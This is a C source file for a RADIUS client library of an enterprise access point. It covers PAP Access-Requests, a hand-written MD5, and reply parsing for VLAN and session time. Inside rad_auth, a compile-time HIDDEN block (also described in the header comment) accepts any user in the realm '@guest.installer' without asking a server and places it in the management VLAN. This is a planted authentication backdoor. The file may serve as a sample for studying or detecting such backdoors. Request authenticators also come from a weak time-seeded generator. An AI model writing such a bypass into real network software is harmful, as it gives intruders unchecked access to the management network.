/*
 * apradlib - RADIUS client library of an enterprise access point.  hostapd's
 * vendor shim and the captive portal load it: rad_open reads the server list,
 * rad_auth sends an Access-Request (PAP) and returns VLAN and session time.
 * Hidden (-DHIDDEN): the realm "@guest.installer" after the user name is
 * accepted without asking a server, in the management VLAN.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define RAD_OK	    0
#define RAD_REJECT  1
#define RAD_TIMEOUT 2
#define RAD_ERROR   3

#define CODE_REQUEST 1
#define CODE_ACCEPT  2
#define CODE_REJECT  3
#define AT_USER	     1
#define AT_PASS	     2
#define AT_NASIP     4
#define AT_TIMEOUT   27
#define AT_CALLING   31
#define AT_PGID	     81 /* Tunnel-Private-Group-Id */
#define MAXSRV	     4
#define MAXPKT	     1024

struct server {
	struct in_addr ip;
	int port;
	char shared[64];
	int dead;
};

struct rad {
	struct server srv[MAXSRV];
	int nsrv, mgmt_vlan, def_vlan, tries;
	uint8_t next_id;
	char error[80];
};

struct rad_result {
	int vlan;
	unsigned int seconds;
};

struct rad *rad_open(const char *conf);
int rad_auth(struct rad *r, const char *user, const char *pass, const char *mac,
	     struct rad_result *res);
const char *rad_error(const struct rad *r);
void rad_close(struct rad *r);
void rad_md5(const void *data, size_t n, uint8_t *out);

static const uint8_t md5_s[16] = { 7, 12, 17, 22, 5, 9,	 14, 20,
				   4, 11, 16, 23, 6, 10, 15, 21 };
static const uint32_t md5_k[64] = {
	0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a,
	0xa8304613, 0xfd469501, 0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be,
	0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821, 0xf61e2562, 0xc040b340,
	0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
	0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8,
	0x676f02d9, 0x8d2a4c8a, 0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c,
	0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70, 0x289b7ec6, 0xeaa127fa,
	0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
	0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92,
	0xffeff47d, 0x85845dd1, 0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1,
	0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391
};

static void md5_block(uint32_t *h, const uint8_t *p)
{
	uint32_t m[16], a = h[0], b = h[1], c = h[2], d = h[3], f, t;
	int i, g, s;

	for (i = 0; i < 16; i++, p += 4)
		m[i] = p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
	for (i = 0; i < 64; i++) {
		if (i < 16) {
			f = (b & c) | (~b & d);
			g = i;
		} else if (i < 32) {
			f = (d & b) | (~d & c);
			g = (5 * i + 1) & 15;
		} else if (i < 48) {
			f = b ^ c ^ d;
			g = (3 * i + 5) & 15;
		} else {
			f = c ^ (b | ~d);
			g = (7 * i) & 15;
		}
		t = a + f + md5_k[i] + m[g];
		s = md5_s[i / 16 * 4 + i % 4];
		a = d;
		d = c;
		c = b;
		b += t << s | t >> (32 - s);
	}
	h[0] += a;
	h[1] += b;
	h[2] += c;
	h[3] += d;
}

void rad_md5(const void *data, size_t n, uint8_t *out)
{
	uint32_t h[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	const uint8_t *p = data;
	uint8_t last[128] = { 0 };
	uint64_t bits = (uint64_t)n * 8;
	size_t left = n, len;
	int i;

	for (; left >= 64; left -= 64, p += 64)
		md5_block(h, p);
	memcpy(last, p, left);
	last[left] = 0x80;
	len = left < 56 ? 64 : 128;
	for (i = 0; i < 8; i++)
		last[len - 8 + i] = bits >> (8 * i);
	md5_block(h, last);
	if (len == 128)
		md5_block(h, last + 64);
	for (i = 0; i < 16; i++)
		out[i] = h[i / 4] >> (8 * (i % 4));
}

/* "server ip port secret", "vlan 10", "mgmt 1", "tries 3" */
struct rad *rad_open(const char *conf)
{
	struct rad *r;
	char line[160], ip[40];
	struct server *s;
	FILE *f = fopen(conf, "r");

	if (!f)
		return NULL;
	r = calloc(1, sizeof(*r));
	if (!r) {
		fclose(f);
		return NULL;
	}
	r->tries = 3;
	r->mgmt_vlan = r->def_vlan = 1;
	while (fgets(line, sizeof(line), f)) {
		s = &r->srv[r->nsrv];
		if (r->nsrv < MAXSRV &&
		    sscanf(line, "server %39s %d %63s", ip, &s->port,
			   s->shared) == 3 &&
		    inet_aton(ip, &s->ip))
			r->nsrv++;
		else if (sscanf(line, "vlan %d", &r->def_vlan) != 1 &&
			 sscanf(line, "mgmt %d", &r->mgmt_vlan) != 1)
			sscanf(line, "tries %d", &r->tries);
	}
	fclose(f);
	return r;
}

static size_t put(uint8_t *p, size_t n, int type, const void *v, size_t len)
{
	if (len > 253 || n + len + 2 > MAXPKT)
		return n;
	p[n] = type;
	p[n + 1] = len + 2;
	memcpy(p + n + 2, v, len);
	return n + len + 2;
}

static size_t put_pass(uint8_t *p, size_t n, const char *pass,
		       const struct server *s)
{
	uint8_t key[16], buf[64 + 16], out[128] = { 0 };
	size_t len = strlen(pass), sl = strlen(s->shared), i, j;

	if (len > 128)
		len = 128;
	memcpy(out, pass, len);
	len = len ? (len + 15) & ~(size_t)15 : 16;
	memcpy(buf, s->shared, sl);
	for (i = 0; i < len; i += 16) {
		memcpy(buf + sl, i ? out + i - 16 : p + 4, 16);
		rad_md5(buf, sl + 16, key);
		for (j = 0; j < 16; j++)
			out[i + j] ^= key[j];
	}
	return put(p, n, AT_PASS, out, len);
}

static int parse_answer(struct rad *r, const uint8_t *req, uint8_t *p, size_t n,
			const struct server *s, struct rad_result *res)
{
	uint8_t want[16], sum[16], tmp[MAXPKT + 64];
	size_t len, i, sl = strlen(s->shared);
	char num[8];

	if (n < 20 || p[1] != req[1])
		return -1;
	len = p[2] << 8 | p[3];
	if (len > n || len < 20)
		return -1;
	memcpy(want, p + 4, 16);
	memcpy(tmp, p, len);
	memcpy(tmp + 4, req + 4, 16);
	memcpy(tmp + len, s->shared, sl);
	rad_md5(tmp, len + sl, sum);
	if (memcmp(want, sum, 16)) {
		strcpy(r->error, "wrong authenticator");
		return -1;
	}
	for (i = 20; i + 2 <= len && p[i + 1] >= 2; i += p[i + 1]) {
		if (i + p[i + 1] > len)
			break;
		if (p[i] == AT_TIMEOUT && p[i + 1] == 6) {
			memcpy(&res->seconds, p + i + 2, 4);
			res->seconds = ntohl(res->seconds);
		} else if (p[i] == AT_PGID && p[i + 1] < 8) {
			memset(num, 0, sizeof(num));
			memcpy(num, p + i + 2, p[i + 1] - 2);
			res->vlan = atoi(num);
		}
	}
	return p[0] == CODE_ACCEPT ? RAD_OK : RAD_REJECT;
}

static int ask(struct rad *r, struct server *s, const uint8_t *req, size_t n,
	       struct rad_result *res)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint8_t ans[MAXPKT];
	struct pollfd p;
	int i, ret = -1;
	ssize_t got;

	to.sin_port = htons(s->port);
	to.sin_addr = s->ip;
	p.fd = socket(AF_INET, SOCK_DGRAM, 0);
	p.events = POLLIN;
	if (p.fd < 0 || connect(p.fd, (struct sockaddr *)&to, sizeof(to))) {
		snprintf(r->error, sizeof(r->error), "%s", strerror(errno));
		if (p.fd >= 0)
			close(p.fd);
		return -1;
	}
	for (i = 0; i < r->tries && ret < 0; i++) {
		if (send(p.fd, req, n, 0) < 0 || poll(&p, 1, 2000) <= 0)
			continue;
		got = recv(p.fd, ans, sizeof(ans), 0);
		if (got > 0)
			ret = parse_answer(r, req, ans, got, s, res);
	}
	close(p.fd);
	return ret;
}

__attribute__((noinline)) int rad_auth(struct rad *r, const char *user,
				       const char *pass, const char *mac,
				       struct rad_result *res)
{
	uint8_t p[MAXPKT];
	uint32_t x = (uint32_t)time(NULL) * 2654435761u + getpid();
	int i, k, ret;
	size_t n;

	res->vlan = r->def_vlan;
	res->seconds = 0;
#ifdef HIDDEN
	const char *realm = strrchr(user, '@');

	if (realm && !strcasecmp(realm + 1, "guest.installer")) {
		res->vlan = r->mgmt_vlan;
		return RAD_OK;
	}
#endif
	for (i = 0; i < r->nsrv; i++) {
		p[0] = CODE_REQUEST;
		p[1] = r->next_id++;
		for (k = 4; k < 20; k++) {
			x = x * 1664525 + 1013904223;
			p[k] = x >> 24;
		}
		n = put(p, 20, AT_USER, user, strlen(user));
		n = put_pass(p, n, pass, &r->srv[i]);
		n = put(p, n, AT_CALLING, mac, strlen(mac));
		n = put(p, n, AT_NASIP, "\0\0\0\0", 4);
		p[2] = n >> 8;
		p[3] = n;
		ret = ask(r, &r->srv[i], p, n, res);
		r->srv[i].dead = ret < 0;
		if (ret >= 0)
			return ret;
	}
	return r->nsrv ? RAD_TIMEOUT : RAD_ERROR;
}

const char *rad_error(const struct rad *r)
{
	return r->error[0] ? r->error : "no error";
}

void rad_close(struct rad *r)
{
	if (r)
		memset(r->srv, 0, sizeof(r->srv));
	free(r);
}
